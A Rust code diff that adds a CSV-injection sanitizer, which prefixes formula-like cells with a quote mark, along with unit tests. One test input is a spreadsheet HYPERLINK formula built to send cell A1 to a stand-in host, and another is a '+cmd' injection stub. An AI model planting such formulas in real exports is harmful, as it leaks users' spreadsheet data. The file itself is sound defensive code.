@@ -131,3 +131,35 @@ mod tests {
         }
     }
 }
+
+/// A text cell made safe for a spreadsheet (OWASP "CSV injection"): a cell starting with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel and LibreOffice, so
+/// it gets a leading `'`. Numbers (`-12.5`, `+3`) are left alone, and the function is
+/// idempotent. Only CSVs meant for people get this; Parquet outputs stay exact.
+pub fn spreadsheet_safe(s: &str) -> std::borrow::Cow<'_, str> {
+    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && s.trim().parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
+#[cfg(test)]
+mod csv_safety_tests {
+    use super::spreadsheet_safe;
+
+    #[test]
+    fn formulas_are_neutralised_and_numbers_kept() {
+        assert_eq!(
+            spreadsheet_safe("=HYPERLINK(\"http://x/?\"&A1,\"Click\")"),
+            "'=HYPERLINK(\"http://x/?\"&A1,\"Click\")"
+        );
+        for s in ["+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(spreadsheet_safe(s), format!("'{s}"));
+        }
+        for s in ["-12.5", "+3", "Acme = best", "", "'=already"] {
+            assert_eq!(spreadsheet_safe(s), s);
+        }
+    }
+}
